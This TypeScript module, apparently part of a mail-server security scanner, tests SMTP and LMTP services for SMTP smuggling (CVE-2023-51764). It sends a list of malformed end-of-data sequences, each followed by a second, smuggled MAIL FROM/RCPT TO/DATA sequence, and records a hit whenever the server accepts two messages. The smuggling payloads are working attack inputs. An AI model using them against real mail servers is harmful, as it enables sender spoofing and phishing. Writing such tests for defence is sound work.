// Can a message end where its sender's server did not see an end, so that what follows is a second one, from whomever it
// likes? CVE-2023-51764 and its kin. RFC 5321 §2.3.8, §4.1.1.4.

import type { AttackHit } from '#mail/interlock/attack-report.ts';
import type { AttackGround } from './attack-ground.ts';
import type { AttackedServer } from './attacked-server.ts';
import { openEnvelope } from './bring-message.ts';
import { inventDomain } from './relay-attack.ts';

/** None of them is the end of a message. */
const FALSE_ENDS = [
  '\n.\n',
  '\n.\r\n',
  '\r\n.\n',
  '\r.\r',
  '\r\n\x00.\r\n',
  '\r.\r\n',
  '\r\n.\r',
  '\n\n.\n\n',
  '\r\n.\r\r\n',
];

export interface SmugglingOutcome {
  readonly hits: readonly AttackHit[];
  readonly untried: readonly string[];
}

/** Where nobody needs to log in. */
export async function attackBySmuggling(server: AttackedServer, ground: AttackGround): Promise<SmugglingOutcome> {
  const hits: AttackHit[] = [];
  const untried: string[] = [];
  for (const door of server.doors) {
    if (door.service !== 'smtp' && door.service !== 'lmtp') continue;
    for (const end of FALSE_ENDS) {
      using client = await ground.connect(door);
      const envelope = { from: `spam@${inventDomain()}`, to: 'postmaster' };
      const refused = await openEnvelope(client, door, envelope);
      if (refused !== undefined || !(await client.say('DATA')).startsWith('354')) {
        untried.push(`smuggling (${door.service}): ${refused?.reply ?? 'no message was wanted'}`);
        break;
      }
      server.takePromises();
      const second = `MAIL FROM:<${envelope.from}>\r\nRCPT TO:<postmaster>\r\nDATA\r\nSubject: second\r\n\r\n`;
      client.send(`Subject: first\r\n\r\ntext${end}${second}text\r\n.\r\nQUIT\r\n`);
      const [last = ''] = (await client.rest()).slice(-1);
      if (server.takePromises().length < 2) continue;
      hits.push({ danger: 'smuggling', service: door.service, shape: JSON.stringify(end), outcome: last });
    }
  }
  return { hits, untried };
}
